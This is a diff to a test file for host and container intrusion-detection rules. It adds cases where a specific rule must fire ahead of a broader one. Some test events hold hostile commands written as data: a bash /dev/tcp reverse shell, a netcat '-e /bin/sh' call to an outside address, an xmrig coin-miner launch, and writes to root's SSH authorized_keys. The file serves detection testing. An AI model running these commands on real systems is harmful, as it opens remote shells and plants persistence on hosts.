@@ -443,7 +443,7 @@ CASES: list[RuleCase] = [
 
 CASES_BY_RULE: dict[str, RuleCase] = {case.rule: case for case in CASES}
 
-# Firing stories of the file-descriptor rule through execveat as well as execve.
+# More firing stories: another syscall or another form of what the rule is about.
 EXTRA_FIRES: list[tuple[str, Callable[[], Story]]] = [
     (
         "Program Run From File Descriptor",
@@ -457,4 +457,48 @@ EXTRA_FIRES: list[tuple[str, Callable[[], Story]]] = [
         "File Written Below Root Or Root Home",
         opened("/root/.ssh/config", APPEND, program="bash", args=(), syscall="open"),
     ),
+]
+
+
+@dataclass(frozen=True)
+class Overlap:
+    """An event two rules match: ``rule`` must be the one alert, ahead of ``broader``.
+
+    An event raises one alert, from the first matching rule in file order, so the specific
+    rule must come before the broad one; with ``rule`` disabled, ``broader`` still catches it.
+    """
+
+    rule: str
+    broader: str
+    story: Callable[[], Story]
+
+
+OVERLAPS: list[Overlap] = [
+    Overlap("Dynamic Linker Preload Modified", "File Written Below Etc",
+            CASES_BY_RULE["Dynamic Linker Preload Modified"].fire),
+    Overlap("Account Database Modified Directly", "File Written Below Etc",
+            CASES_BY_RULE["Account Database Modified Directly"].fire),
+    Overlap("Scheduled Job Modified", "File Written Below Etc",
+            CASES_BY_RULE["Scheduled Job Modified"].fire),
+    Overlap("Service Unit Written", "File Written Below Etc",
+            CASES_BY_RULE["Service Unit Written"].fire),
+    Overlap("Shell Startup File Modified", "File Written Below Etc",
+            opened("/etc/profile", APPEND)),
+    Overlap("Shell Startup File Modified", "File Written Below Root Or Root Home",
+            CASES_BY_RULE["Shell Startup File Modified"].fire),
+    Overlap("SSH Authorized Keys Modified", "File Written Below Root Or Root Home",
+            opened("/root/.ssh/authorized_keys", APPEND, program="bash", args=())),
+    Overlap("Interactive Terminal Shell In Container", "Shell Started In Container",
+            CASES_BY_RULE["Interactive Terminal Shell In Container"].fire),
+    Overlap("Shell Spawned By Web Server", "Shell Started In Container",
+            started("sh", "-c", "id", parent="nginx", container=IN_CONTAINER)),
+    Overlap("Shell Redirected To Network Device", "Shell Started In Container",
+            started("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="node",
+                    container=IN_CONTAINER)),
+    Overlap("Netcat Command Execution", "Network Relay Tool Run In Container",
+            started("nc", "-e", "/bin/sh", "203.0.113.9", "4444", parent="sh",
+                    container=IN_CONTAINER)),
+    Overlap("Coin Miner Started", "Program Run From Temporary Directory",
+            started("xmrig", "-o", "pool.example.com:3333", exe="/tmp/xmrig",
+                    filename="/tmp/xmrig")),
 ]
